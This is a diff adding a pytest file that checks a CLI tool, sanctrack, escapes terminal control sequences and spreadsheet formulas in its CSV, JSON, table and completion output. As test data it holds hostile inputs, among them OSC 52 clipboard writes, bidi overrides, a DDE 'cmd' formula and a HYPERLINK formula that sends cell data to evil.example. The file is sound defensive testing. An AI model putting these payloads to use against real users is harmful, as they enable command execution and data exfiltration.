@@ -1,0 +1,160 @@
+"""Issue 16, the second hostile round: each reproduction of the issue, held.
+
+Terminal and spreadsheet: one escaping policy for every CSV/TSV (no raw control byte, no formula,
+exact round trip through sanctrack's own CSV import), JSON with C0/C1/bidi as \\uXXXX, completion
+and table/plain output escaped.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import unicodedata
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+# Stored names as an attacker writes them: SGR colour, OSC 52 (a clipboard write), an OSC 8 link,
+# OSC 0 (the window title), BEL, BS; and a reason of DEL, NEL, C1 CSI/ST/OSC, RLO, U+2028/U+2029.
+ESCAPES = "Evil \x1b[31mRed\x1b]52;c;aGk=\x07 \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07 bel\x07 bs\x08"
+C1_AND_BIDI = "nel\x85 del\x7f csi\x9b2J st\x9c osc\x9d rlo\u202e ls\u2028ps\u2029 end"
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def _invisible(text: str) -> list[str]:
+    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
+
+
+def _is_formula(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell.lstrip("-").replace(".", "", 1).isdigit()
+
+
+@pytest.fixture
+def hostile(cli):
+    """An event whose authority is a formula, whose targets hold every escape and formula, and a
+    response answering it with a formula for a quote."""
+    targets = []
+    for name in [ESCAPES] + FORMULAS:
+        targets += ["--target", name]
+    event = cli.json("add", "event", "--date", "2025-01-03", "--authority", FORMULAS[0],
+                     "--jurisdiction", "US", *targets, "--reason", C1_AND_BIDI, "--program", "=1+2")
+    response = cli.json("add", "response", "--to", event["id"], "--date", "2025-01-06", "--actor",
+                        "@evil", "--quote", "-cmd " + C1_AND_BIDI, "--speaker", "'quoted")
+    return event, response
+
+
+def _cells(text: str, tsv: bool) -> list[str]:
+    rows = list(csv.reader(io.StringIO(text), dialect="excel-tab" if tsv else "excel"))
+    assert len(rows) > 1, text
+    return [cell for row in rows for cell in row]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+@pytest.mark.parametrize(
+    "argv",
+    [["timeline"], ["search", "evil"], ["log"], ["check", "cmd C calc A0"], ["export"]],
+)
+def test_every_csv_and_tsv_is_inert_in_a_terminal_and_a_spreadsheet(cli, hostile, argv, fmt):
+    if argv == ["export"] and fmt == "tsv":
+        pytest.skip("export writes csv, not tsv")
+    out = cli(*argv, "--format", fmt, code=None).stdout
+    assert not [c for c in _invisible(out) if c not in "\n\t"], argv
+    cells = _cells(out, fmt == "tsv")
+    assert not [cell for cell in cells if _invisible(cell)], argv
+    assert not [cell for cell in cells if _is_formula(cell)], argv
+    if argv[0] in ("timeline", "export", "search"):
+        assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+
+
+def test_the_csv_export_imports_back_to_the_exact_text(cli, hostile, tmp_path):
+    exported = tmp_path / "out.csv"
+    cli("export", "--format", "csv", "-o", str(exported))
+    other = tmp_path / "other.db"
+    cli("--db", str(other), "import", str(exported))
+    assert cli("--db", str(other), "export").stdout == cli("export").stdout
+    event = cli.json("--db", str(other), "show", hostile[0]["id"])
+    assert [t["name"] for t in event["targets"]] == [ESCAPES] + FORMULAS
+    assert event["reason"] == C1_AND_BIDI and event["program"] == "=1+2"
+    response = cli.json("--db", str(other), "show", hostile[1]["id"])
+    assert (response["actor"], response["speaker"]) == ("@evil", "'quoted")
+
+
+@settings(max_examples=300, deadline=None, derandomize=True)
+@given(text=st.text())
+def test_a_cell_escapes_and_unescapes_exactly(text):
+    from sanctrack.render.csv import escape_cell, unescape_cell
+
+    cell = escape_cell(text)
+    assert unescape_cell(cell) == text
+    assert not _invisible(cell) and not _is_formula(cell)
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [["show", "EVENT", "--json"], ["export"], ["export", "--format", "jsonl"],
+     ["export", "--format", "ftm"], ["timeline", "--json"], ["search", "evil", "--json"],
+     ["log", "--json"], ["timeline", "--format", "jsonl"]],
+)
+def test_json_writes_every_control_and_bidi_character_as_an_escape(cli, hostile, argv):
+    argv = [hostile[0]["id"] if a == "EVENT" else a for a in argv]
+    out = cli(*argv).stdout
+    assert not [c for c in _invisible(out) if c != "\n"], argv
+    parsed = [json.loads(out)] if out.lstrip().startswith("[") or argv[0] == "show" else [
+        json.loads(line) for line in out.splitlines()
+    ]
+    if argv[0] in ("show", "export") and "ftm" not in argv:
+        assert C1_AND_BIDI in json.dumps(parsed, ensure_ascii=False)
+
+
+def test_json_keeps_the_values(cli, hostile):
+    event = cli.json("show", hostile[0]["id"])
+    assert event["reason"] == C1_AND_BIDI and event["targets"][0]["name"] == ESCAPES
+
+
+@settings(max_examples=300, deadline=None, derandomize=True)
+@given(value=st.recursive(st.text() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=8))
+def test_safe_json_is_json_of_the_same_value(value):
+    from sanctrack.render.json import compact, document, line
+
+    for encode in (document, line, compact):
+        text = encode(value)
+        assert json.loads(text) == value
+        assert not [c for c in _invisible(text) if c != "\n"]
+
+
+def test_the_json_escape_class_covers_every_control_format_and_separator_character():
+    import sys
+
+    from sanctrack.render.text import _RAW_IN_JSON
+
+    missing = [hex(c) for c in range(sys.maxunicode + 1) if c != 10
+               and unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")
+               and not _RAW_IN_JSON.fullmatch(chr(c))]
+    assert missing == []
+
+
+@pytest.mark.parametrize("fmt", ["table", "plain"])
+def test_line_and_paragraph_separators_never_reach_table_or_plain_output(cli, hostile, fmt, monkeypatch):
+    monkeypatch.setenv("FORCE_COLOR", "1")
+    for argv in (["show", hostile[0]["id"]], ["show", hostile[1]["id"]], ["search", "evil"], ["timeline"]):
+        out = cli(*argv, "--format", fmt).stdout
+        assert "\u2028" not in out and "\u2029" not in out and "\x85" not in out, argv
+        # Newlines, the tabs between plain columns and the colours of a table are sanctrack's own.
+        assert not [c for c in _invisible(out) if c not in "\n\t\x1b"], argv
+        assert "\x1b[31m" not in out and "\x1b]" not in out, argv
+
+
+def test_completion_descriptions_and_values_are_escaped(cli, tmp_path):
+    # An entity whose name carries an OSC 8 link and a BEL: completing its id shows its name.
+    name = "Evil \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ \x07\u202eCorp"
+    event = cli.json("add", "event", "--date", "2025", "--authority", "A", "--jurisdiction", "US",
+                     "--target", name)
+    for shell in ("zsh", "fish", "bash"):
+        args = ["sanctrack show "] if shell == "bash" else ["show", ""]
+        out = cli("__complete", shell, "--", *args).stdout
+        assert event["id"] in out or event["targets"][0]["entity_id"] in out, (shell, out)
+        assert not [c for c in _invisible(out) if c not in "\n\t"], (shell, out)
+        if shell != "bash":
+            assert "\\x1b]8;;" in out
